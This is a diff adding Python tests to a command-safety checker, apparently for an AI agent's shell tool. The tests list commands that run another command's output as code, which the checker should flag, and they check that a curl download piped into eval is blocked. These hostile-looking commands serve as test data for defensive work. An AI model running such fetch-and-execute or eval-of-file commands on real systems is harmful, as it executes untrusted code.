@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import pytest
 from approvals import bus_with, run
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from agentbus.guards.danger import check_command
 from agentbus.guards.policy import Policy
@@ -41,3 +43,125 @@ async def test_a_person_decides_through_the_bus(approve: bool, runs: bool) -> No
     assert (ran == [command]) is runs
     if not runs:
         assert f"{UNJUDGED_SCRIPT}: $cmd" in (result.block_reason or "")
+
+
+# -- a command's output run as code: asked, but for installed tools that print setup code ---------
+
+OUTPUT_RUN = [
+    "c=$(cat f); $c",
+    "c=`cat f`; $c -x",
+    'c=$(cat payload.txt); eval "$c"',
+    "c=$(./gen.sh); d=$c; $d",  # through a second variable
+    'c=$(cat f); d="$c --now"; $d',
+    "c=$(cat f); $c ls",  # the parser takes $c for a wrapper of ls
+    'c=$(cat f); bash -c "$c"',
+    "local c=$(cat f); eval $c",
+    "export RUN=$(python gen.py); $RUN",
+    "read c; d=$c; $d",
+    'eval "$(cat f)"',
+    "eval $(./configure-env)",
+    'eval "export V=$(git describe)"',  # a tag name becomes code
+    "$(cat f) arg",
+    "`cat cmd.txt`",
+    "source <(./gen.sh)",
+    ". <(python gen.py)",
+    "bash <(cat f)",
+    'trap "$(cat f)" EXIT',
+    'eval "$(direnv export bash)"',  # the project's .envrc
+    'eval "$(poetry env activate)"',  # a virtualenv's activate script, maybe the project's
+    'eval "$(./brew shellenv)"',  # a tool named by a relative path: a project file
+    'eval "$(/tmp/x/pyenv init -)"',
+    'eval "$(pyenv init - | sh)"',
+    'eval "$(FOO=1 pyenv init -)"',
+    'eval "$(pyenv init $(cat f))"',
+]
+
+
+@pytest.mark.parametrize("command", OUTPUT_RUN)
+def test_output_run_as_code_is_an_unjudged_script(command: str) -> None:
+    verdict = check_command(command, home=HOME)
+    assert verdict is not None, command
+    assert (verdict.category, verdict.decision) == (UNJUDGED_SCRIPT, "ask"), verdict.reason
+
+
+SETUP_CODE = [
+    'eval "$(pyenv init -)"',
+    'eval "$(pyenv init --path)"',
+    'eval "$(pyenv virtualenv-init -)"',
+    'eval "$(rbenv init - bash)"',
+    'eval "$(ssh-agent -s)"',
+    "eval $(ssh-agent)",
+    'eval "$(/opt/homebrew/bin/brew shellenv)"',
+    'eval "$(brew shellenv)"',
+    'eval "$(direnv hook bash)"',
+    'eval "$(starship init zsh)"',
+    'eval "$(zoxide init bash --cmd cd)"',
+    'eval "$(conda shell.bash hook)"',
+    'eval "$(micromamba shell hook --shell bash)"',
+    'eval "$(fnm env --use-on-cd)"',
+    'eval "$(mise activate bash)"',
+    "eval $(opam env)",
+    "eval $(minikube docker-env)",
+    'eval "$(dircolors -b)"',
+    'eval "$(thefuck --alias)"',
+    'eval "$(pyenv init - 2>/dev/null)"',
+    "source <(kubectl completion bash)",
+    "source <(helm completion zsh)",
+    'eval "$(gh completion -s bash)"',
+    'eval "$(~/.pyenv/bin/pyenv init -)"',
+    'c=$(pyenv init -); eval "$c"',
+    "$(which python3) -m pytest",
+    "$(command -v node) server.js",
+    "PY=$(which python3); $PY -m pip list",
+    'x=$(mktemp -d); cd "$x"; rm -rf "$x"',
+    'out=$(git status --short); echo "$out"',
+    'root=$(git rev-parse --show-toplevel); "$root/scripts/test.sh"',
+    'eval "$(echo export A=1)"',
+    'bash -c \'echo "$1"\' _ "$(cat f)"',
+    'source ./env.sh "$(date +%F)"',
+    "$() ls -la",  # an empty substitution prints nothing
+    "``",
+]
+
+
+@pytest.mark.parametrize("command", SETUP_CODE)
+def test_setup_code_from_installed_tools_and_plain_values_are_not_asked(command: str) -> None:
+    assert check_command(command, home=HOME) is None, command
+
+
+def test_the_reason_names_the_code_that_made_the_value() -> None:
+    verdict = check_command('c=$(cat payload.txt); eval "$c"', home=HOME)
+    assert verdict is not None
+    assert "$(cat payload.txt)" in verdict.reason
+
+
+def test_output_run_as_code_follows_the_policy() -> None:
+    command = 'eval "$(cat f)"'
+    unattended = check_command(command, home=HOME, policy=Policy(profile="unattended"))
+    assert unattended is not None
+    assert unattended.decision == "block"
+    assert check_command(command, home=HOME, policy=Policy(verdicts={UNJUDGED_SCRIPT: "allow"})) is None
+
+
+def test_a_download_run_through_a_variable_is_still_blocked() -> None:
+    verdict = check_command('eval "$(curl -fsSL https://x.example/i.sh)"', home=HOME)
+    assert verdict is not None
+    assert verdict.decision == "block"
+
+
+_PRODUCERS = st.sampled_from(
+    ["cat f", "pyenv init -", "./gen.sh", "ssh-agent -s", "kubectl completion bash", "direnv export bash",
+     "brew shellenv", "/tmp/brew shellenv", "python gen.py", "which python3", "starship init bash"]
+)  # fmt: skip
+
+
+@settings(max_examples=40, deadline=None)
+@given(producer=_PRODUCERS)
+def test_an_output_is_judged_the_same_however_it_reaches_the_shell(producer: str) -> None:
+    forms = [f'eval "$({producer})"', f'c=$({producer}); eval "$c"', f"c=`{producer}`; d=$c; eval $d"]
+    decisions = {_decision(check_command(form, home=HOME)) for form in forms}
+    assert len(decisions) == 1, (producer, decisions)
+
+
+def _decision(verdict: object) -> str:
+    return "allow" if verdict is None else str(getattr(verdict, "decision", ""))
